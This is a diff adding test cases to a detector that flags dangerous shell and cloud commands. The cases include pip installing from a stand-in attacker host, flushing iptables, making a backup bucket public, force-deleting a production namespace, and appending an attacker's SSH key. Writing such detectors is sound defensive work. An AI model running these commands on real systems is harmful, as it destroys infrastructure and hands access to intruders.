@@ -24,6 +24,13 @@ describe('dangerous-command detector', () => {
     ['FLUSHALL', 'redis-cli FLUSHALL', 'dangerous.data_destruction:high'],
     ['an open security group', 'aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 0.0.0.0/0', 'dangerous.open_to_world:high'],
     ['chmod 777 on a system path', 'chmod -R 777 /etc', 'dangerous.open_to_world:high'],
+    ['pip trusting any host', 'pip install --trusted-host pypi.evil.example -i http://pypi.evil.example/simple internal-tools', 'dangerous.tls_disabled:medium'],
+    ['auth turned off in a dotted setting', 'Disable auth for now: set `auth.enabled: false` in config.yaml and restart.', 'dangerous.auth_disabled:high'],
+    ['a flushed firewall', 'iptables -F && iptables -P INPUT ACCEPT', 'dangerous.open_to_world:high'],
+    ['a bucket opened to everyone', 'gsutil iam ch allUsers:objectViewer gs://company-backups', 'dangerous.open_to_world:high'],
+    ['infrastructure torn down', 'terraform destroy -auto-approve', 'dangerous.infrastructure_destruction:medium'],
+    ['a namespace deleted', 'kubectl delete namespace production --force --grace-period=0', 'dangerous.infrastructure_destruction:medium'],
+    ['a key added to authorized_keys', 'echo "ssh-rsa AAAAB3NzaC1yc2E attacker@evil" >> ~/.ssh/authorized_keys', 'dangerous.remote_access_granted:medium'],
   ])('flags %s', (_name, text, expected) => {
     expect(found(text)).toContain(expected);
   });
@@ -38,6 +45,9 @@ describe('dangerous-command detector', () => {
     ['a restricted security group', 'aws ec2 authorize-security-group-ingress --group-id sg-1 --port 443 --cidr 10.0.0.0/8'],
     ['prose about deletes', 'Never run rm -rf on the data directory; use the archive script instead.'],
     ['a TLS-verified request', 'requests.get(url, verify="/etc/ssl/certs/ca.pem", timeout=5)'],
+    ['a pod deleted', 'kubectl delete pod web-5d9f7 -n staging'],
+    ['a force push with lease on a feature branch', 'git push --force-with-lease origin feature/login'],
+    ['a private key made private', 'chmod 600 ~/.ssh/id_ed25519'],
   ])('leaves %s alone', (_name, text) => {
     expect(found(text)).toEqual([]);
   });
